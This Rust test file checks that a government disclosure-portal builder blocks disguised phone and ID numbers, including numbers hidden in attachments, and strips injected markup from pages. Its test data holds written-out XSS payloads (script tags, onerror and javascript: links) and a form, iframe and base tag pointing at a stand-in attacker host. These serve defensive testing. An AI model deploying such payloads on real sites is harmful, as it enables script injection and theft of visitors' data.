//! The publication boundary, personal data and script (issue 16, classes 4 and 5):
//! every way an editor can hide a personal number from the source scan while the
//! page still shows it stops the build naming the file, and no content-originated
//! script, handler, frame, form or redirect reaches a built page.

mod common;
use common::{Portal, column, doc};
use xxgk::check::personal_data::{with_id_check_digit, with_luhn_digit};

const COL: &str = "content/gsgg";

fn portal() -> Portal {
    Portal::new(&[
        (&format!("{COL}/_index.md"), &column("公示公告", "其他信息")),
        (
            &format!("{COL}/tz.md"),
            &doc(
                "标题: 关于开展春季植树活动的通知\n发布日期: 2026-03-01",
                "各村（社区）：请按时参加。",
            ),
        ),
    ])
}

fn notice(body: &str) -> String {
    doc(
        "标题: 2026年度城乡低保对象名单公示\n发布日期: 2026-10-08",
        body,
    )
}

fn id() -> String {
    with_id_check_digit("34182319900101123")
}

/// Builds a clean portal, adds `files`, and asserts the build stops naming `named`
/// with a personal-data error while the previous site stays byte for byte.
fn stops(files: &[(&str, Vec<u8>)], named: &str) {
    let p = portal();
    p.build().ok();
    let before = p.site_files();
    for (path, bytes) in files {
        p.write_bytes(path, bytes);
    }
    let run = p.build();
    assert_eq!(run.code, 1, "{named}: build passed\n{}", run.stderr);
    let named_line = run
        .stderr
        .lines()
        .find(|l| l.starts_with(&format!("{named}:")) && l.contains("公开内容含完整的"));
    let line = named_line.unwrap_or_else(|| panic!("no pii error at {named}:\n{}", run.stderr));
    let number: usize = line[named.len() + 1..]
        .split(':')
        .next()
        .and_then(|n| n.parse().ok())
        .unwrap_or(0);
    assert!(number >= 1, "line 0: {line}");
    assert_eq!(p.site_files(), before, "{named}: site/ changed");
}

fn body_stops(body: &str) {
    let file = format!("{COL}/dbmd.md");
    stops(&[(&file, notice(body).into_bytes())], &file);
}

#[test]
fn zero_width_characters_and_soft_hyphens() {
    body_stops("联系电话：138\u{200B}1234\u{2060}5678");
    body_stops(&format!("身份证号：{}\u{00AD}{}", &id()[..6], &id()[6..]));
    body_stops("联系电话：１３８\u{FEFF}１２３４５６７８");
}

#[test]
fn html_entities() {
    body_stops("联系电话：&#49;&#51;&#56;&#x31;2345678");
    body_stops(&format!(
        "<p>身份证号 &#{};{}</p>",
        u32::from(id().as_bytes()[0]),
        &id()[1..]
    ));
}

#[test]
fn split_by_emphasis_and_inline_tags() {
    body_stops("联系电话：138**1234**5678");
    body_stops("联系电话：<span>138</span><b>1234</b>5678");
    body_stops(&format!("身份证号：*{}*`{}`", &id()[..9], &id()[9..]));
}

#[test]
fn split_across_a_line_break_and_br() {
    body_stops(&format!(
        "户主张三，身份证号：{}\n{}，低保金 500 元。",
        &id()[..12],
        &id()[12..]
    ));
    body_stops("联系电话：138<br>1234<br/>5678");
}

#[test]
fn split_across_adjacent_table_cells() {
    body_stops("| 姓名 | 手机 | 号码 |\n|---|---|---|\n| 张三 | 138 | 12345678 |");
    body_stops(&format!(
        "<table><tr><td>姓名</td><td>身份证号</td><td></td></tr><tr><td>张三</td><td>{}</td><td>{}</td></tr></table>",
        &id()[..10],
        &id()[10..]
    ));
}

fn docx(runs: &[&str]) -> Vec<u8> {
    use std::io::Write;
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default();
    zip.start_file("[Content_Types].xml", opts).unwrap();
    zip.write_all(br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"#).unwrap();
    zip.start_file("word/document.xml", opts).unwrap();
    let runs: String = runs
        .iter()
        .map(|r| format!("<w:r><w:t>{r}</w:t></w:r>"))
        .collect();
    let xml = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>城乡低保对象名单</w:t></w:r></w:p><w:p>{runs}</w:p></w:body></w:document>"#
    );
    zip.write_all(xml.as_bytes()).unwrap();
    zip.finish().unwrap().into_inner()
}

fn pdf(text: &str) -> Vec<u8> {
    use lopdf::content::{Content, Operation};
    use lopdf::{Document, Object, Stream, dictionary};
    let mut doc = Document::with_version("1.5");
    let pages_id = doc.new_object_id();
    let font_id = doc.add_object(dictionary! {
        "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica",
    });
    let resources_id = doc.add_object(dictionary! { "Font" => dictionary! { "F1" => font_id } });
    let content = Content {
        operations: vec![
            Operation::new("BT", vec![]),
            Operation::new("Tf", vec!["F1".into(), 24.into()]),
            Operation::new("Td", vec![100.into(), 600.into()]),
            Operation::new("Tj", vec![Object::string_literal(text)]),
            Operation::new("ET", vec![]),
        ],
    };
    let content_id = doc.add_object(Stream::new(dictionary! {}, content.encode().unwrap()));
    let page_id = doc.add_object(dictionary! {
        "Type" => "Page", "Parent" => pages_id, "Contents" => content_id,
    });
    doc.objects.insert(
        pages_id,
        Object::Dictionary(dictionary! {
            "Type" => "Pages", "Kids" => vec![page_id.into()], "Count" => 1,
            "Resources" => resources_id,
            "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
        }),
    );
    let catalog_id = doc.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages_id });
    doc.trailer.set("Root", catalog_id);
    let mut out = Vec::new();
    doc.save_to(&mut out).unwrap();
    out
}

fn with_attachment(name: &str, bytes: Vec<u8>) {
    let file = format!("{COL}/files/{name}");
    let md = doc(
        &format!(
            "标题: 2026年度城乡低保对象名单公示\n发布日期: 2026-10-08\n附件:\n  - path: files/{name}\n    title: 低保对象名单"
        ),
        "名单见附件。",
    );
    stops(
        &[(&file, bytes), (&format!("{COL}/dbmd.md"), md.into_bytes())],
        &file,
    );
}

#[test]
fn inside_a_docx_attachment() {
    with_attachment("md.docx", docx(&["张三 联系电话 138", "1234", "5678"]));
    let id = id();
    with_attachment("sfz.docx", docx(&["户主身份证号 ", &id[..8], &id[8..]]));
}

#[test]
fn inside_a_pdf_attachment() {
    with_attachment("md.pdf", pdf("Zhang San 13812345678"));
}

#[test]
fn in_a_document_or_attachment_file_name() {
    let file = format!("{COL}/zhangsan-13812345678.md");
    stops(&[(&file, notice("名单如下。").into_bytes())], &file);
    let md = doc(
        "标题: 名单公示\n发布日期: 2026-10-08\n附件:\n  - files/名单-138\u{200B}12345678.csv",
        "名单见附件。",
    );
    let file = format!("{COL}/md.md");
    stops(
        &[
            (
                &format!("{COL}/files/名单-138\u{200B}12345678.csv"),
                "姓名\n张三\n".into(),
            ),
            (&file, md.into_bytes()),
        ],
        &file,
    );
}

#[test]
fn in_a_link_url_or_title() {
    body_stops("[名单](https://www.example.gov.cn/md?tel=%31%33%38%31%32%33%34%35%36%37%38)");
    body_stops("[名单](https://www.example.gov.cn/md \"联系人&#49;3812345678\")");
    body_stops("<img src=\"files/a.png\" alt=\"电话&#49;3812345678\">");
}

#[test]
fn codes_sequence_numbers_and_amounts_are_not_personal_data() {
    let p = portal();
    let card = with_luhn_digit("622202020011223344");
    p.write(
        &format!("{COL}/xm.md"),
        &doc(
            "标题: 2026年度以工代赈项目公示\n发布日期: 2026-10-08\n附件:\n  - files/xm.csv",
            &format!(
                "项目编号：\n{card}\n\n项目编号<br>{card}\n\n| 序号 | 补贴金额（元） |\n|---|---|\n| 138 | 12345678 |\n| 1 | 3912345678 |\n\n| 序号 | 项目编号 | 户数 |\n|---|---|---|\n| 1 | {card} | 13 |\n\n统一社会信用代码：{}\n\n2026年\n13812345678.00 元",
                id()
            ),
        ),
    );
    p.write(
        &format!("{COL}/files/xm.csv"),
        &format!("项目编号,项目名称,金额\n{card},人民路改造,120\n"),
    );
    p.build().ok();
}

#[test]
fn no_content_originated_script_handler_frame_form_or_redirect_is_published() {
    let p = portal();
    p.write(
        &format!("{COL}/files/note.txt"),
        "alert('CANARY-脚本-7f3a')",
    );
    let body = [
        "正文第一段。",
        "<script src=\"files/note.txt\"></script>",
        "<script>alert('CANARY-脚本-7f3a')</script>",
        "<p><img src=\"files/a.png\" onerror=\"alert('CANARY-脚本-7f3a')\" alt=\"图\"></p>",
        "<p><a href=\"javascript:alert('CANARY-脚本-7f3a')\">点此查看</a></p>",
        "[点此](javascript:alert(1))",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<form action=\"https://evil.example/\"><input name=\"sfz\"><button>提交</button></form>",
        "<svg><script>alert('CANARY-脚本-7f3a')</script></svg>",
        "<base href=\"https://evil.example/\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/a.css\">",
        "<style>body{display:none}</style>",
        "<object data=\"files/note.txt\"></object><embed src=\"files/note.txt\">",
        "<p style=\"position:fixed;top:0\" onmouseover=\"x()\">浮层</p>",
        "## 标题 {onclick=alert(1)}",
    ]
    .join("\n\n");
    let file = format!("{COL}/js.md");
    p.write(
        &file,
        &doc(
            "标题: 关于网页安全的说明\n发布日期: 2026-10-08\n附件:\n  - files/note.txt",
            &body,
        ),
    );
    let run = p.build().ok();
    // Each removal is a warning at its source line (the body starts on line 7).
    run.reports(&format!("{file}:9"), "<script> 元素");
    run.reports(&format!("{file}:13"), "onerror 事件属性");
    run.reports(&format!("{file}:15"), "javascript: 链接");
    run.reports(&format!("{file}:19"), "<meta> 元素");
    run.reports(&format!("{file}:37"), "标题的 onclick 属性");
    let page = p.page("gsgg/js/");
    // The body, not the head: since the page metadata (description) repeats its
    // first words, the first "正文第一段" is in the head beside the theme's scripts.
    let main = &page[page.find("<div class=\"body\">").unwrap()..];
    let main = &main[main.find("正文第一段").unwrap()..];
    for bad in [
        "<script",
        "onerror",
        "onmouseover",
        "onclick",
        "javascript:",
        "http-equiv",
        "<iframe",
        "<form",
        "<input",
        "<button",
        "<svg",
        "<base",
        "<link",
        "<style",
        "<object",
        "<embed",
        "style=",
        "evil.example",
    ] {
        assert!(!main.contains(bad), "{bad} published:\n{main}");
    }
    assert!(main.contains("浮层") && main.contains("点此查看"));
    // Nor the search index: the script's content is not text of the page.
    for q in ["CANARY", "脚本", "alert"] {
        let found = p.xxgk(&["search", q, "--json"]).ok();
        assert!(
            found.stdout.contains("\"total\":0") || found.stdout.contains("\"total\": 0"),
            "{q}: {}",
            found.stdout
        );
    }
    let ok = p.xxgk(&["search", "正文第一段", "--json"]).ok();
    assert!(
        !ok.stdout.contains("\"total\":0") && !ok.stdout.contains("CANARY"),
        "{}",
        ok.stdout
    );
    // The canary in script content never reaches a page (the .txt attachment itself
    // is published as a download, as written).
    for (path, bytes) in p.site_files() {
        if path.extension().is_some_and(|e| e == "txt") {
            continue;
        }
        let text = String::from_utf8_lossy(&bytes);
        assert!(!text.contains("CANARY-脚本-7f3a"), "{}", path.display());
    }
}

/// Red team: a mobile number with China's country code or grouped otherwise than
/// 3-4-4, and a first-generation 15-digit 身份证号, stop the build too.
#[test]
fn country_codes_other_groupings_and_old_15_digit_ids() {
    for body in [
        "低保对象王某，联系电话 +8613812345678。",
        "低保对象王某，联系电话 +86-138-1234-5678。",
        "低保对象王某，联系电话 0086 13812345678。",
        "低保对象王某，联系电话 138 12345678。",
        "低保对象王某，身份证 341823900101123。",
        "| 姓名 | 身份证 |\n|---|---|\n| 王某 | 341823 900101 123 |",
    ] {
        body_stops(body);
    }
}

/// Red team: a workbook whose phone numbers are numeric cells (as Excel stores a
/// typed-in number), one in a text cell, and a CSV with quoted cells.
#[test]
fn numeric_workbook_cells_and_quoted_csv_cells() {
    let book = |write: &dyn Fn(&mut rust_xlsxwriter::Worksheet)| {
        let mut b = rust_xlsxwriter::Workbook::new();
        let s = b.add_worksheet();
        s.write_string(0, 0, "姓名").unwrap();
        s.write_string(0, 1, "联系电话").unwrap();
        s.write_string(1, 0, "张三").unwrap();
        write(s);
        b.save_to_buffer().unwrap()
    };
    with_attachment(
        "md.xlsx",
        book(&|s| {
            s.write_number(1, 1, 13812345678.0).unwrap();
        }),
    );
    with_attachment(
        "md2.xlsx",
        book(&|s| {
            s.write_string(1, 1, "+86 138-1234-5678").unwrap();
        }),
    );
    with_attachment(
        "md.csv",
        format!("姓名,身份证号\n\"张三\",\"{}\"\n", id()).into_bytes(),
    );
}
